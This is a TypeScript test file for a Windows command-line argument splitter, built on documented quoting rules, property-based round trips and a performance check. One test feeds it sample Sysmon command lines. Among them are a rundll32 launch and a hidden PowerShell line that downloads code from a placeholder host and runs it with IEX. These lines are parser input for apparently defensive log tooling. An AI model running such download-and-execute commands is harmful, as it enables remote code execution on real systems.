/**
 * The command-line splitter against the documented Windows rules, written from the
 * documentation and not from the implementation:
 * - table cases: Microsoft's "Parsing C command-line arguments" table (the rows where the
 *   C runtime and CommandLineToArgvW agree), the program-name rule, and the `""`-inside-quotes
 *   rule CommandLineToArgvW kept (daviddeley.com "How Command Line Parameters Are Parsed" §5,
 *   "prior to 2008"; Wine's shell32 notes);
 * - round trip: arguments quoted by the documented inverse (Microsoft's "Everyone quotes
 *   command line arguments the wrong way": wrap in quotes, double the backslashes that end up
 *   before a quote, escape each quote) and joined must split back into the same arguments.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { argsFields, splitCommandLine } from './cmdline';

/** Quotes one argument (not the program name) so that the Windows rules read it back. */
function quoteArg(arg: string): string {
  if (arg !== '' && !/[ \t"]/.test(arg)) return arg;
  let out = '"';
  let slashes = 0;
  for (const ch of arg) {
    if (ch === '\\') {
      slashes++;
      continue;
    }
    if (ch === '"') {
      // 2n+1 backslashes before a quote: n backslashes and a literal quote
      out += '\\'.repeat(slashes * 2 + 1) + '"';
    } else {
      out += '\\'.repeat(slashes) + ch;
    }
    slashes = 0;
  }
  // the closing quote follows: 2n backslashes give n
  return out + '\\'.repeat(slashes * 2) + '"';
}

/** The program name: quoted when it holds a blank (it never holds a quote). */
function quoteProgram(name: string): string {
  return name === '' || /[ \t]/.test(name) ? `"${name}"` : name;
}

const alphabet = ['a', 'b', 'Z', '0', '\\', '"', ' ', '\t', '.', ':', '-', '/', 'é', '中', '😀', '\u00a0', '\n'];
const argText = fc.array(fc.constantFrom(...alphabet), { maxLength: 12 }).map((cs) => cs.join(''));
const anyText = fc.oneof(argText, fc.string({ unit: 'grapheme', maxLength: 10 }), fc.string({ unit: 'binary', maxLength: 10 }));
const programName = anyText.map((s) => s.replace(/"/g, ''));

describe('splitCommandLine: documented cases', () => {
  const cases: [string, string[]][] = [
    // Microsoft's table (program name "p" added)
    ['p "a b c" d e', ['p', 'a b c', 'd', 'e']],
    ['p "ab\\"c" "\\\\" d', ['p', 'ab"c', '\\', 'd']],
    ['p a\\\\\\b d"e f"g h', ['p', 'a\\\\\\b', 'de fg', 'h']],
    ['p a\\\\\\"b c d', ['p', 'a\\"b', 'c', 'd']],
    ['p a\\\\\\\\"b c" d e', ['p', 'a\\\\b c', 'd', 'e']],
    // `""` inside quotes: a literal quote, and the quoted part ends (CommandLineToArgvW)
    ['p a"b"" c d', ['p', 'ab"', 'c', 'd']],
    ['p """a b"""', ['p', '"a', 'b"']],
    // empty arguments and blanks
    ['p "" ""', ['p', '', '']],
    ['p   a\t\tb  ', ['p', 'a', 'b']],
    ['p a ""', ['p', 'a', '']],
    ['p "unterminated arg', ['p', 'unterminated arg']],
    ['p "', ['p', '']],
    // backslashes not before a quote are literal
    ['p C:\\dir\\ \\\\server\\share\\', ['p', 'C:\\dir\\', '\\\\server\\share\\']],
    // the program name: to the next quote, no escapes; the next argument may follow at once
    ['"C:\\Program Files\\x.exe" -a', ['C:\\Program Files\\x.exe', '-a']],
    ['"C:\\dir\\"x y', ['C:\\dir\\', 'x', 'y']],
    ['"C:\\a b\\x.exe"-flag', ['C:\\a b\\x.exe', '-flag']],
    ['"C:\\no end', ['C:\\no end']],
    // unquoted: to the first blank, quotes and backslashes as they are
    ['C:\\a"b c"d e', ['C:\\a"b', 'cd e']],
    ['C:\\a"b c d', ['C:\\a"b', 'c', 'd']],
    ['cmd.exe', ['cmd.exe']],
    [' leading', ['', 'leading']],
    ['""', ['']],
    // only space and tab separate
    ['p a\nb\u00a0c', ['p', 'a\nb\u00a0c']],
    // unicode passes through
    ['"C:\\Users\\Jürgen\\安装.exe" "参数 一" 😀\\"', ['C:\\Users\\Jürgen\\安装.exe', '参数 一', '😀"']],
  ];
  it.each(cases)('%j', (line, expected) => {
    expect(splitCommandLine(line)).toEqual(expected);
  });

  it('real Sysmon command lines', () => {
    expect(splitCommandLine('"C:\\Windows\\system32\\cmd.exe" /c "rundll32 c:\\programdata\\7okjer,#1"')).toEqual([
      'C:\\Windows\\system32\\cmd.exe', '/c', 'rundll32 c:\\programdata\\7okjer,#1',
    ]);
    expect(splitCommandLine('powershell.exe  -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\\"http://x/a\\")"')).toEqual([
      'powershell.exe', '-nop', '-w', 'hidden', '-c', 'IEX (New-Object Net.WebClient).DownloadString("http://x/a")',
    ]);
  });

  it('an empty line has no arguments; argsFields counts them', () => {
    expect(splitCommandLine('')).toEqual([]);
    expect(argsFields('')).toBeUndefined();
    expect(argsFields(undefined)).toBeUndefined();
    expect(argsFields('a.exe "b c" d')).toEqual({ args: ['a.exe', 'b c', 'd'], args_count: 3 });
  });
});

describe('splitCommandLine: properties', () => {
  it('round trip: quoted by the documented inverse, joined by blanks, split back', () => {
    fc.assert(
      fc.property(programName, fc.array(anyText, { maxLength: 6 }), fc.constantFrom(' ', '\t', '  ', ' \t'), (prog, args, sep) => {
        const line = [quoteProgram(prog), ...args.map(quoteArg)].join(sep);
        expect(splitCommandLine(line)).toEqual([prog, ...args]);
      }),
      { numRuns: 2000 },
    );
  });

  it('2n backslashes before a quote: n backslashes, the quote delimits', () => {
    fc.assert(
      fc.property(fc.integer({ min: 0, max: 20 }), (n) => {
        expect(splitCommandLine(`p a${'\\'.repeat(2 * n)}"b c"`)).toEqual(['p', `a${'\\'.repeat(n)}b c`]);
      }),
    );
  });

  it('2n+1 backslashes before a quote: n backslashes and a literal quote', () => {
    fc.assert(
      fc.property(fc.integer({ min: 0, max: 20 }), (n) => {
        expect(splitCommandLine(`p a${'\\'.repeat(2 * n + 1)}"b c`)).toEqual(['p', `a${'\\'.repeat(n)}"b`, 'c']);
      }),
    );
  });

  it('backslashes not before a quote stay as they are', () => {
    fc.assert(
      fc.property(fc.integer({ min: 1, max: 20 }), fc.constantFrom('x', ' ', ''), (n, after) => {
        const got = splitCommandLine(`p a${'\\'.repeat(n)}${after}`);
        expect(got[1]).toBe(`a${'\\'.repeat(n)}${after === 'x' ? 'x' : ''}`);
      }),
    );
  });

  it('text without quotes or backslashes splits as blank-separated words', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'grapheme', maxLength: 8 }).map((s) => s.replace(/["\\]/g, '')), { maxLength: 8 }), (parts) => {
        const line = parts.join(' ');
        const words = line.split(/[ \t]+/);
        const expected = line.startsWith(' ') || line.startsWith('\t') ? ['', ...words.filter((w) => w !== '')] : words.filter((w) => w !== '');
        expect(splitCommandLine(line)).toEqual(line === '' ? [] : expected);
      }),
    );
  });

  it('is linear: a 1 MB line of quotes and backslashes splits quickly', () => {
    const line = 'p ' + '\\\\\\"" a'.repeat(150_000);
    const t = Date.now();
    const out = splitCommandLine(line);
    expect(out.length).toBeGreaterThan(1);
    expect(Date.now() - t).toBeLessThan(2000);
  });
});
